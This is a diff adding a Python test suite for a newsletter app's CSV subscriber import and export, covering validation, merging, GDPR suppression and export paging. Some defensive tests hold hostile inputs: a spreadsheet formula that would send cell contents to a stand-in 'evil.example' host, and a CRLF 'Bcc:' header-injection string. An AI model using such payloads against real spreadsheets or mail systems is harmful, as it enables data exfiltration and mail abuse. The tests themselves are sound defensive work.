@@ -1,0 +1,454 @@
+"""CSV import and export of subscribers, on SQLite and PostgreSQL: good rows, hostile rows."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from email_validator import EmailNotValidError, validate_email
+from sqlmodel import Session, col, select
+
+from newsletter import csvio, gdpr
+from newsletter.exceptions import InvalidInput, NotFound
+from newsletter.models import (
+    Newsletter,
+    Subscriber,
+    SubscriberEvent,
+    Subscription,
+)
+from newsletter.suppression import Reason, suppress
+from tests.conftest import make_newsletter
+
+HEADER = "email,name,newsletters,status,consent_at,consent_ip,consent_source,consent_text_version"
+
+
+def run_import(session: Session, data: str | bytes, **options: object) -> csvio.ImportReport:
+    raw = data.encode("utf-8") if isinstance(data, str) else data
+    report = csvio.import_csv(session, io.BytesIO(raw), **options)  # type: ignore[arg-type]
+    session.commit()
+    return report
+
+
+def status_of(session: Session, email: str, newsletter: Newsletter) -> str | None:
+    sub = session.exec(
+        select(Subscription)
+        .join(Subscriber, col(Subscriber.id) == Subscription.subscriber_id)
+        .where(Subscriber.email == email, Subscription.newsletter_id == newsletter.id)
+    ).first()
+    return None if sub is None else sub.status
+
+
+def subscriber(session: Session, email: str) -> Subscriber:
+    found = session.exec(select(Subscriber).where(Subscriber.email == email)).first()
+    assert found is not None, email
+    return found
+
+
+def export_rows(session: Session, **filters: object) -> list[dict[str, str]]:
+    text = "".join(csvio.export_csv(session, **filters))  # type: ignore[arg-type]
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+# ---------------------------------------------------------------- good rows
+
+
+def test_good_rows_import_with_their_consent_and_an_event_each(session: Session) -> None:
+    weekly, daily = make_newsletter(session), make_newsletter(session)
+    report = run_import(
+        session,
+        f"{HEADER}\n"
+        f"Anna@Example.ORG,Anna K,{weekly.slug};{daily.slug},active,"
+        "2025-10-19T08:00:00+02:00,192.0.2.7,web form,2025-10\n"
+        f"ales@example.com,Ales,{weekly.slug}|{daily.slug},pending,,,,\n",
+    )
+
+    assert (report.rows, report.imported, report.errors) == (2, 2, [])
+    anna = subscriber(session, "Anna@example.org")  # the domain is lower-cased, the local part not
+    assert anna.name == "Anna K"
+    subs = session.exec(select(Subscription).where(Subscription.subscriber_id == anna.id)).all()
+    assert {s.newsletter_id for s in subs} == {weekly.id, daily.id}
+    first = subs[0]
+    assert first.status == "active"
+    assert first.consent_at is not None and first.consent_at.hour in (6, 8)  # 06:00 UTC
+    assert (first.consent_ip, first.consent_source, first.consent_text_version) == (
+        "192.0.2.7",
+        "web form",
+        "2025-10",
+    )
+    assert status_of(session, "ales@example.com", daily) == "pending"
+    events = session.exec(select(SubscriberEvent).where(SubscriberEvent.kind == "import")).all()
+    assert len(events) == 4  # one per created subscription
+
+
+def test_defaults_status_active_source_import_and_the_given_newsletter(session: Session) -> None:
+    weekly = make_newsletter(session)
+    report = run_import(session, "email\nnew@example.org\n", newsletters=[weekly.slug])
+
+    assert report.imported == 1
+    sub = session.exec(select(Subscription)).one()
+    assert (sub.status, sub.consent_source) == ("active", "import")
+    assert sub.consent_at is not None
+
+
+def test_a_row_without_newsletter_and_no_default_is_an_error(session: Session) -> None:
+    make_newsletter(session)
+    report = run_import(session, "email,name\na@example.org,A\n")
+    assert report.errors == [
+        csvio.RowIssue(2, "no newsletter: fill the newsletters column or give a default")
+    ]
+
+
+def test_an_unknown_default_newsletter_stops_before_any_row(session: Session) -> None:
+    with pytest.raises(NotFound, match="no newsletter 'nope'"):
+        run_import(session, "email\na@example.org\n", newsletters=["nope"])
+
+
+def test_a_bom_and_semicolons_as_delimiter_are_understood(session: Session) -> None:
+    weekly = make_newsletter(session)
+    data = "\ufeffEmail;Name;Newsletters\r\nbom@example.org;Bo M;" + weekly.slug + "\r\n"
+    report = run_import(session, data)
+    assert (report.imported, report.errors) == (1, [])
+    assert subscriber(session, "bom@example.org").name == "Bo M"
+
+
+# ---------------------------------------------------------------- bad and hostile rows
+
+
+def test_bad_rows_are_reported_by_line_and_every_valid_row_imports(session: Session) -> None:
+    weekly = make_newsletter(session)
+    s = weekly.slug
+    report = run_import(
+        session,
+        f"{HEADER}\n"
+        f"ok1@example.org,One,{s},,,,,\n"  # 2
+        f"not-an-address,Bad,{s},,,,,\n"  # 3
+        f",Nobody,{s},,,,,\n"  # 4
+        f"ok2@example.org,Two,nope,,,,,\n"  # 5 unknown newsletter
+        f"ok3@example.org,Three,{s},maybe,,,,\n"  # 6 bad status
+        f"ok4@example.org,Four,{s},,yesterday,,,\n"  # 7 bad consent_at
+        f"ok5@example.org,Five,{s},,,999.1.1.1,,\n"  # 8 bad IP
+        f"ok6@example.org,Six,{s},,,,,,extra\n"  # 9 a field too many
+        f"ok7@example.org,Seven,{s}\n"  # 10 missing trailing fields: fine
+        f"user@exa mple.org,Space,{s},,,,,\n"  # 11
+        "\n"  # 12 blank: skipped silently
+        f"ok8@example.org,Eight,{s},,,,,{'v' * 40}\n",  # 13 consent_text_version too long
+    )
+
+    assert [issue.line for issue in report.errors] == [3, 4, 5, 6, 7, 8, 9, 11, 13]
+    reasons = {issue.line: issue.reason for issue in report.errors}
+    assert reasons[3].startswith("invalid email address 'not-an-address'")
+    assert reasons[4] == "no email address"
+    assert reasons[5] == "unknown newsletter 'nope'"
+    assert reasons[6].startswith("status 'maybe' is not one of pending, active")
+    assert reasons[7] == "consent_at 'yesterday' is not an ISO 8601 date and time"
+    assert reasons[8] == "consent_ip '999.1.1.1' is not an IP address"
+    assert reasons[9] == "9 fields, but the header names 8"
+    assert "exa mple.org" in reasons[11]
+    assert reasons[13] == "consent_text_version is longer than 32 characters"
+    assert (report.rows, report.imported) == (11, 2)
+    assert report.rows == report.imported + len(report.errors)  # each row counted once
+    emails = set(session.exec(select(Subscriber.email)).all())
+    assert emails == {"ok1@example.org", "ok7@example.org"}
+
+
+def test_no_email_column_is_one_error_before_any_row(session: Session) -> None:
+    weekly = make_newsletter(session)
+    with pytest.raises(InvalidInput, match=r"no 'email' column \(found 'mail', 'name'\)"):
+        run_import(session, "mail,name\na@example.org,A\n", newsletters=[weekly.slug])
+    assert session.exec(select(Subscriber)).all() == []
+
+
+def test_an_empty_file_and_a_repeated_column_are_errors(session: Session) -> None:
+    with pytest.raises(InvalidInput, match="the file is empty"):
+        run_import(session, b"")
+    with pytest.raises(InvalidInput, match="names a column twice: email"):
+        run_import(session, "email,Email\n")
+
+
+def test_a_line_that_is_not_utf8_is_reported_and_the_others_import(session: Session) -> None:
+    weekly = make_newsletter(session)
+    data = (
+        b"email,name\n"
+        b"before@example.org,Before\n"
+        b"latin1@example.org,Ren\xe9 \xc0 Paris\n"
+        b"after@example.org,Aft\xc3\xa9r\n"
+    )
+    report = run_import(session, data, newsletters=[weekly.slug])
+
+    assert report.errors == [csvio.RowIssue(3, "not UTF-8 text (byte 0xe9 at column 23)")]
+    assert (report.rows, report.imported) == (3, 2)
+    assert subscriber(session, "after@example.org").name == "Aftér"
+
+
+def test_a_header_that_is_not_utf8_makes_the_file_unusable(session: Session) -> None:
+    with pytest.raises(InvalidInput, match="line 1: not UTF-8"):
+        run_import(session, b"em\xffail\na@example.org\n")
+
+
+def test_line_breaks_and_control_characters_in_names_become_spaces(session: Session) -> None:
+    weekly = make_newsletter(session)
+    data = (
+        "email,name\n"
+        '"crlf@example.org","Eve\r\nBcc: victim@example.org"\n'  # lines 2-3
+        "nul@example.org,Tab\x0bbed\x00\n"  # 4: PostgreSQL text cannot even hold a NUL
+        "bell@example.org,Ring\x07ing\n"  # 5
+        "last@example.org,Last\n"  # 6
+    )
+    report = run_import(session, data, newsletters=[weekly.slug])
+
+    assert subscriber(session, "crlf@example.org").name == "Eve Bcc: victim@example.org"
+    assert subscriber(session, "nul@example.org").name == "Tab bed"
+    assert subscriber(session, "bell@example.org").name == "Ring ing"
+    assert subscriber(session, "last@example.org").name == "Last"
+    assert [w.line for w in report.warnings] == [2, 4, 5]
+    assert "line breaks and control characters replaced" in report.warnings[0].reason
+    assert (report.errors, report.imported) == ([], 4)
+
+
+def test_bad_quoting_is_reported_and_the_next_rows_import(session: Session) -> None:
+    weekly = make_newsletter(session)
+    data = 'email,name\na@example.org,"Al"ice\nb@example.org,Bob\n'
+    report = run_import(session, data, newsletters=[weekly.slug])
+    assert [e.line for e in report.errors] == [2]
+    assert report.errors[0].reason.startswith("bad CSV:")
+    assert report.imported == 1
+
+
+def test_an_over_long_line_is_skipped_without_reading_it_whole(session: Session) -> None:
+    weekly = make_newsletter(session)
+    huge = "x" * (csvio.MAX_LINE_BYTES + 10)
+    data = f"email,name\nlong@example.org,{huge}\nshort@example.org,S\n"
+    report = run_import(session, data, newsletters=[weekly.slug])
+    assert report.errors == [csvio.RowIssue(2, f"line longer than {csvio.MAX_LINE_BYTES} bytes")]
+    assert report.imported == 1
+
+
+def test_formulas_are_kept_as_text_and_neutralised_on_export(session: Session) -> None:
+    weekly = make_newsletter(session)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
+    data = "email,name\n" + f'formula@example.org,"{formula.replace(chr(34), chr(34) * 2)}"\n'
+    data += "-dash@example.org,+plus @at\n"
+    run_import(session, data, newsletters=[weekly.slug])
+    assert subscriber(session, "formula@example.org").name == formula
+
+    rows = export_rows(session, newsletter_id=weekly.id)
+
+    by_email = {r["email"]: r for r in rows}
+    assert by_email["formula@example.org"]["name"] == "'" + formula
+    assert by_email["'-dash@example.org"]["name"] == "'+plus @at"
+    # and the export imports back to the same values
+    text = "".join(csvio.export_csv(session, newsletter_id=weekly.id))
+    other = make_newsletter(session)
+    again = run_import(session, text.replace(weekly.slug, other.slug))
+    assert again.errors == [] and again.updated == 0
+    assert subscriber(session, "formula@example.org").name == formula
+    assert status_of(session, "-dash@example.org", other) == "active"
+
+
+# ---------------------------------------------------------------- merging and sticky statuses
+
+
+def test_duplicates_merge_in_file_order_a_later_row_unsubscribes(session: Session) -> None:
+    weekly, daily = make_newsletter(session), make_newsletter(session)
+    data = (
+        "email,name,newsletters,status\n"
+        f"dup@example.org,First,{weekly.slug},active\n"
+        f"dup@EXAMPLE.org,,{daily.slug},active\n"  # same address, another newsletter
+        f"dup@example.org,Second,{weekly.slug},unsubscribed\n"  # a later row may unsubscribe
+        f"dup@example.org,,{weekly.slug},active\n"  # and nothing re-activates it
+    )
+    report = run_import(session, data)
+
+    assert (report.rows, report.imported, report.duplicates) == (4, 1, 3)
+    assert subscriber(session, "dup@example.org").name == "Second"
+    assert status_of(session, "dup@example.org", weekly) == "unsubscribed"
+    assert status_of(session, "dup@example.org", daily) == "active"
+    emails = session.exec(select(Subscriber.email)).all()
+    assert emails == ["dup@example.org"]
+
+
+def test_duplicates_across_chunks_follow_the_same_rules(session: Session) -> None:
+    weekly = make_newsletter(session)
+    rows = [f"a{i}@example.org,{weekly.slug},active" for i in range(5)]
+    rows.append(f"a1@example.org,{weekly.slug},unsubscribed")
+    rows.append(f"a1@example.org,{weekly.slug},active")
+    report = run_import(session, "email,newsletters,status\n" + "\n".join(rows), chunk_rows=2)
+
+    assert (report.imported, report.duplicates, report.rows) == (5, 2, 7)
+    assert status_of(session, "a1@example.org", weekly) == "unsubscribed"
+
+
+@pytest.mark.parametrize("sticky", ["unsubscribed", "bounced", "complained"])
+def test_an_import_never_reactivates_a_sticky_subscription(session: Session, sticky: str) -> None:
+    weekly = make_newsletter(session)
+    run_import(session, f"email,newsletters,status\ngone@example.org,{weekly.slug},{sticky}\n")
+    assert status_of(session, "gone@example.org", weekly) == sticky
+
+    report = run_import(
+        session, f"email,newsletters,status\ngone@example.org,{weekly.slug},active\n"
+    )
+
+    assert (report.unchanged, report.kept, report.updated) == (1, 1, 0)
+    assert status_of(session, "gone@example.org", weekly) == sticky
+
+
+def test_an_import_confirms_pending_and_never_downgrades_active(session: Session) -> None:
+    weekly = make_newsletter(session)
+    s = weekly.slug
+    run_import(
+        session, f"email,newsletters,status\np@example.org,{s},pending\na@example.org,{s},\n"
+    )
+
+    report = run_import(
+        session, f"email,newsletters,status\np@example.org,{s},active\na@example.org,{s},pending\n"
+    )
+
+    assert (report.updated, report.unchanged) == (1, 1)
+    assert status_of(session, "p@example.org", weekly) == "active"
+    assert status_of(session, "a@example.org", weekly) == "active"
+
+
+def test_a_row_can_unsubscribe_an_existing_subscriber(session: Session) -> None:
+    weekly = make_newsletter(session)
+    run_import(session, f"email,newsletters\nleaving@example.org,{weekly.slug}\n")
+    report = run_import(
+        session, f"email,newsletters,status\nleaving@example.org,{weekly.slug},unsubscribed\n"
+    )
+    assert report.updated == 1
+    sub = session.exec(select(Subscription)).one()
+    assert sub.status == "unsubscribed" and sub.unsubscribed_at is not None
+
+
+def test_an_erased_address_is_not_imported_again(session: Session) -> None:
+    weekly = make_newsletter(session)
+    run_import(session, f"email,name,newsletters\nforget@example.org,Me,{weekly.slug}\n")
+    gdpr.erase_subscriber(session, "forget@example.org")
+    session.commit()
+
+    report = run_import(session, f"email,name,newsletters\nForget@EXAMPLE.org,Me,{weekly.slug}\n")
+
+    assert (report.suppressed, report.imported) == (1, 0)
+    assert report.warnings == [
+        csvio.RowIssue(2, "Forget@example.org is on the suppression list (erased)")
+    ]
+    emails = session.exec(select(Subscriber.email)).all()
+    assert all(e.endswith("@invalid") for e in emails)
+
+
+def test_a_suppressed_bounce_is_reported_with_its_reason(session: Session) -> None:
+    weekly = make_newsletter(session)
+    suppress(session, "dead@example.org", Reason.bounced)
+    session.commit()
+    report = run_import(session, f"email,newsletters\ndead@example.org,{weekly.slug}\n")
+    assert report.suppressed == 1
+    assert report.warnings[0].reason == "dead@example.org is on the suppression list (bounced)"
+
+
+# ---------------------------------------------------------------- export
+
+
+def test_export_filters_by_newsletter_and_status(session: Session) -> None:
+    weekly, daily = make_newsletter(session), make_newsletter(session)
+    run_import(
+        session,
+        "email,newsletters,status\n"
+        f"a@example.org,{weekly.slug},active\n"
+        f"b@example.org,{weekly.slug},unsubscribed\n"
+        f"c@example.org,{daily.slug},active\n",
+    )
+
+    everyone = export_rows(session)
+    weekly_active = export_rows(session, newsletter_id=weekly.id, status="active")
+
+    assert [r["email"] for r in everyone] == ["a@example.org", "b@example.org", "c@example.org"]
+    assert list(everyone[0]) == list(csvio.IMPORT_COLUMNS)
+    assert [(r["email"], r["newsletters"], r["status"]) for r in weekly_active] == [
+        ("a@example.org", weekly.slug, "active")
+    ]
+    assert everyone[0]["consent_source"] == "import" and everyone[0]["consent_at"]
+    with pytest.raises(InvalidInput, match="status 'nope'"):
+        export_rows(session, status="nope")
+
+
+def test_export_pages_through_many_rows(session: Session) -> None:
+    weekly = make_newsletter(session)
+    rows = "\n".join(f"p{i}@example.org" for i in range(25))
+    run_import(session, "email\n" + rows, newsletters=[weekly.slug])
+    pieces = list(csvio.export_csv(session, page_rows=10))
+    assert len(pieces) == 3
+    assert len(list(csv.DictReader(io.StringIO("".join(pieces))))) == 25
+
+
+# ---------------------------------------------------------------- the email fast path
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "Reader.1@Example.ORG",
+        "Postmaster@example.org",
+        "o'neil+tag@example.org",
+        "-dash@example.org",
+        "a..b@example.org",
+        "a.@example.org",
+        "a@example",
+        "a@localhost",
+        "a@example.invalid",
+        "x@xn--mnchen-3ya.de",
+        "x@münchen.de",
+        "ünï@example.org",
+        '"quoted"@example.org',
+        "a@[192.0.2.1]",
+        "x" * 65 + "@example.org",
+        "x@" + ("d" * 60 + ".") * 4 + "org",
+        "a@-bad.org",
+        "a@bad_.org",
+    ],
+)
+def test_the_email_fast_path_agrees_with_email_validator(address: str) -> None:
+    def full() -> str:
+        try:
+            return str(validate_email(address, check_deliverability=False).normalized)
+        except EmailNotValidError as exc:
+            return f"error: {exc}"
+
+    def fast() -> str:
+        try:
+            return csvio.EmailNormaliser().normalise(address)
+        except EmailNotValidError as exc:
+            return f"error: {exc}"
+
+    assert fast() == full()
+
+
+# ---------------------------------------------------------------- concurrent writers
+
+
+def test_rows_another_writer_inserted_meanwhile_are_skipped_not_fatal(session: Session) -> None:
+    """The bulk insert (COPY on PostgreSQL) falls back to INSERT ... ON CONFLICT DO NOTHING."""
+    weekly = make_newsletter(session)
+    session.add(Subscriber(email="raced@example.org", name="Other writer"))
+    session.commit()
+    writer = csvio._Writer(session, csvio.ImportReport())
+    now = csvio.utcnow()
+    rows = [
+        {"email": e, "name": "Import", "attributes": {"k": [1]}, "created_at": now}
+        for e in ("raced@example.org", "fresh@example.org")
+    ]
+
+    writer._insert_rows(csvio.SUB, rows)
+    session.commit()
+
+    people = {s.email: s for s in session.exec(select(Subscriber)).all()}
+    assert people["raced@example.org"].name == "Other writer"
+    assert people["fresh@example.org"].attributes == {"k": [1]}
+    assert weekly.id is not None
+
+
+def test_event_details_are_stored_as_json_objects(session: Session) -> None:
+    weekly = make_newsletter(session)
+    run_import(session, f"email,newsletters\nj@example.org,{weekly.slug}\n")
+    session.expire_all()
+    event = session.exec(select(SubscriberEvent)).one()
+    assert event.detail == {"from": None, "status": "active", "line": 2}
